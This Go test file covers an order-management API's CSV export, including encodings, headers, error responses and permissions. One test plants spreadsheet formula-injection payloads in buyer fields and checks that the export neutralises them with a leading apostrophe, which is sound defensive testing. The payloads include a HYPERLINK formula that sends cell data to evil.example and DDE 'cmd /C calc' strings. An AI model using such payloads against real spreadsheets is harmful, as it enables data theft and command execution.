package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"golang.org/x/text/encoding/japanese"

	"github.com/ichigen-oms/ichigen/internal/order"
	"github.com/ichigen-oms/ichigen/internal/ordercsv"
	"github.com/ichigen-oms/ichigen/internal/store"
	"github.com/ichigen-oms/ichigen/internal/store/storetest"
	"github.com/ichigen-oms/ichigen/internal/user"
)

// TestExportOrdersCSV: the API gives the order list's CSV for a search or for named orders,
// in UTF-8 with a byte order mark or in Shift_JIS, and refuses what it cannot read with a
// problem document instead of a file.
func TestExportOrdersCSV(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, b *testBundle) {
		ctx := context.Background()
		viewer := b.tokenFor(t, only(user.MenuOrders, user.View))

		// The whole search, in the search's order.
		w := b.do(t, viewer, http.MethodGet, "/orders/export.csv?shop="+i64(b.shop.ID)+"&sort=number&order=asc", nil)
		if w.Code != http.StatusOK {
			t.Fatalf("export: %d %s", w.Code, w.Body)
		}
		if ct := w.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8" {
			t.Errorf("content type %q", ct)
		}
		if !strings.Contains(w.Header().Get("Content-Disposition"), `filename="orders-`) || w.Header().Get("X-Ichigen-Rows") != "30" {
			t.Errorf("headers: %v", w.Header())
		}
		body := w.Body.Bytes()
		if !bytes.HasPrefix(body, []byte("\uFEFF")) {
			t.Error("a UTF-8 file starts with a byte order mark, or Excel reads it as Shift_JIS")
		}
		rows := readCSV(t, bytes.TrimPrefix(body, []byte("\uFEFF")))
		if len(rows) != 31 || rows[0][0] != "注文ID" || rows[0][14] != "処理フェーズ" {
			t.Fatalf("%d lines, header %v", len(rows), rows[0])
		}
		first, tenth := rows[1], rows[10]
		if !strings.HasSuffix(first[1], "00000001") || first[2] != b.shop.Name || first[14] != "新規受付" || first[15] != "空欄(未処理)" {
			t.Errorf("first row: %v", first)
		}
		if tenth[10] != "未確定" || tenth[11] != "未確定" {
			t.Errorf("an unfixed postage and total read %q / %q, want 未確定", tenth[10], tenth[11])
		}

		// With the line items, one row per line (MakeOrders: 3 each), counted in X-Ichigen-Rows.
		w = b.do(t, viewer, http.MethodGet, "/orders/export.csv?lines=true&shipto=true&shipments=true&ids="+i64(b.orderID[0]), nil)
		rows = readCSV(t, bytes.TrimPrefix(w.Body.Bytes(), []byte("\uFEFF")))
		if w.Code != http.StatusOK || len(rows) != 4 || w.Header().Get("X-Ichigen-Rows") != "3" || rows[0][len(ordercsv.Header)] != "商品コード" ||
			rows[0][len(rows[0])-1] != "配送番号" || rows[1][len(ordercsv.Header)+1] != "静岡煎茶 100g" {
			t.Fatalf("with line items: %d, rows header %q, %v", w.Code, w.Header().Get("X-Ichigen-Rows"), rows)
		}

		// Named orders, in the order named; an id with no order is left out.
		w = b.do(t, viewer, http.MethodGet, "/orders/export.csv?ids="+i64(b.orderID[4])+","+i64(b.orderID[1])+",99999999", nil)
		rows = readCSV(t, bytes.TrimPrefix(w.Body.Bytes(), []byte("\uFEFF")))
		if w.Code != http.StatusOK || len(rows) != 3 || rows[1][0] != i64(b.orderID[4]) || rows[2][0] != i64(b.orderID[1]) {
			t.Fatalf("named orders: %d %v", w.Code, rows)
		}

		// Shift_JIS: a buyer name with a character Shift_JIS lacks becomes "?", the rest reads.
		o := storetest.MakeOrders(500, 1, base)
		o[0].Buyer.Name = "山田 花子🍵"
		res, err := b.st.UpsertOrders(ctx, b.shop.ID, o, store.UpsertOptions{})
		if err != nil {
			t.Fatal(err)
		}
		w = b.do(t, viewer, http.MethodGet, "/orders/export.csv?enc=sjis&ids="+i64(res.IDs[0]), nil)
		if ct := w.Header().Get("Content-Type"); w.Code != http.StatusOK || ct != "text/csv; charset=shift_jis" {
			t.Fatalf("sjis: %d %q", w.Code, ct)
		}
		utf8, err := japanese.ShiftJIS.NewDecoder().Bytes(w.Body.Bytes())
		if err != nil {
			t.Fatal(err)
		}
		rows = readCSV(t, utf8)
		if len(rows) != 2 || rows[1][4] != "山田 花子?" || rows[0][1] != "注文番号" {
			t.Errorf("sjis rows: %v", rows)
		}

		// What cannot be read is a problem document, not a file.
		p := problem(t, b.do(t, viewer, http.MethodGet, "/orders/export.csv?ordered_from=2026-13-01", nil), http.StatusUnprocessableEntity)
		if len(p.Errors) != 1 || p.Errors[0].Location != "query.ordered_from" {
			t.Errorf("a bad date: %+v", p)
		}
		problem(t, b.do(t, viewer, http.MethodGet, "/orders/export.csv?enc=euc-jp", nil), http.StatusUnprocessableEntity)
		problem(t, b.do(t, viewer, http.MethodGet, "/orders/export.csv?ids=-3", nil), http.StatusUnprocessableEntity)
		problem(t, b.do(t, "", http.MethodGet, "/orders/export.csv", nil), http.StatusUnauthorized)
		problem(t, b.do(t, b.tokenFor(t, only(user.MenuHistory, user.View)), http.MethodGet, "/orders/export.csv", nil), http.StatusForbidden)

		// An empty search is an empty file, its header only.
		w = b.do(t, viewer, http.MethodGet, "/orders/export.csv?q=nobody-has-this", nil)
		if rows := readCSV(t, bytes.TrimPrefix(w.Body.Bytes(), []byte("\uFEFF"))); w.Code != http.StatusOK || len(rows) != 1 {
			t.Errorf("empty search: %d, %d lines", w.Code, len(rows))
		}
	})
}

// TestExportNeutralisesFormulas: a buyer's text that a spreadsheet would run as a formula
// (= + - @ tab CR first) is written with a leading ' in both encodings, so Excel shows it as
// text; an amount stays a number even when negative.
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	forEngine(t, func(t *testing.T, b *testBundle) {
		ctx := context.Background()
		o := storetest.MakeOrders(700, 1, base)
		o[0].Buyer.Name = `=HYPERLINK("http://evil.example/?"&A1,"詳細")`
		o[0].Buyer.Kana = "@SUM(1+1)*cmd|' /C calc'!A0"
		o[0].Buyer.Address = "+81 東京都港区"
		o[0].Buyer.Phone = "-2+3+cmd|' /C calc'!A0"
		o[0].Buyer.Zip = "\t=1+1"
		o[0].PaymentMethod = "\r=1+1"
		o[0].Amounts.Goods = order.YenOf(-500) // a refund-like amount is still a number
		res, err := b.st.UpsertOrders(ctx, b.shop.ID, o, store.UpsertOptions{})
		if err != nil {
			t.Fatal(err)
		}
		viewer := b.tokenFor(t, only(user.MenuOrders, user.View))
		for _, enc := range []string{"utf8", "sjis"} {
			w := b.do(t, viewer, http.MethodGet, "/orders/export.csv?enc="+enc+"&ids="+i64(res.IDs[0]), nil)
			body := bytes.TrimPrefix(w.Body.Bytes(), []byte("\uFEFF"))
			if enc == "sjis" {
				if body, err = japanese.ShiftJIS.NewDecoder().Bytes(body); err != nil {
					t.Fatal(err)
				}
			}
			rows := readCSV(t, body)
			if w.Code != http.StatusOK || len(rows) != 2 {
				t.Fatalf("%s: %d %v", enc, w.Code, rows)
			}
			r := rows[1]
			for col, want := range map[int]string{
				4: `'=HYPERLINK("http://evil.example/?"&A1,"詳細")`, 5: "'@SUM(1+1)*cmd|' /C calc'!A0", 6: "'\t=1+1",
				7: "'+81 東京都港区", 8: "'-2+3+cmd|' /C calc'!A0", 9: "-500", 0: i64(res.IDs[0]),
				// encoding/csv's CRLF writer drops a lone CR: unguarded, "\r=1+1" would reach Excel as =1+1.
				13: "'=1+1",
			} {
				if r[col] != want {
					t.Errorf("%s: %s is %q, want %q", enc, rows[0][col], r[col], want)
				}
			}
		}
	})
}

// TestExportOrdersIsDocumentedAsCSV: the OpenAPI document says the export answers text/csv.
func TestExportOrdersIsDocumentedAsCSV(t *testing.T) {
	t.Parallel()
	b := setup(t, storetestSQLite)
	var doc struct {
		Paths map[string]map[string]struct {
			Responses map[string]struct {
				Content map[string]any `json:"content"`
			} `json:"responses"`
		} `json:"paths"`
	}
	if err := json.Unmarshal(b.do(t, "", http.MethodGet, "/openapi.json", nil).Body.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	ok := doc.Paths["/orders/export.csv"]["get"].Responses["200"]
	if _, csv := ok.Content["text/csv"]; !csv || len(ok.Content) != 1 {
		t.Errorf("export's 200 answer: %v", ok.Content)
	}
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("%v\n%s", err, b)
	}
	return rows
}
